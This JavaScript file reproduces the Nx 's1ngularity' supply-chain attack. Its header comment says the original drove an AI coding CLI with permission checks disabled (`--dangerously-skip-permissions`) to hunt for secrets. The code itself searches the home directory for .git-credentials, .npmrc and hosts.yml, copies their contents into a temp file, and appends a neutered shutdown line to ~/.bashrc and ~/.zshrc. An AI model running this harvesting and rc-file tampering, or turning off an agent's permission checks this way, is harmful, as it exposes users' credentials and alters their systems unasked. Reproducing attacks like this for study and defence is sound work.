// Harmless reproduction of Nx "s1ngularity" (2025). It runs a CLI with an
// inline payload (node -e stands in for `claude --dangerously-skip-permissions
// -p ...`) that finds secret files with find(1) and lists them into
// $TMPDIR/inventory.txt, then appends a (neutered) `sudo shutdown` line to
// ~/.bashrc and ~/.zshrc.
const cp = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
const payload = `
const { execSync } = require('child_process');
const fs = require('fs'), os = require('os'), path = require('path');
const found = execSync('find ' + os.homedir() + ' -maxdepth 3 -name hosts.yml -o -name .git-credentials -o -name .npmrc')
  .toString().split('\\n').filter(Boolean);
let inv = '';
for (const f of found) try { inv += f + ': ' + fs.readFileSync(f, 'utf8'); } catch (e) {}
fs.writeFileSync(path.join(os.tmpdir(), 'inventory.txt'), inv);
`;
cp.execFileSync(process.execPath, ['-e', payload], { stdio: 'ignore' });
for (const rc of ['.bashrc', '.zshrc'])
  fs.appendFileSync(path.join(os.homedir(), rc), '\n# corpus\ntrue sudo shutdown -h 0\n');
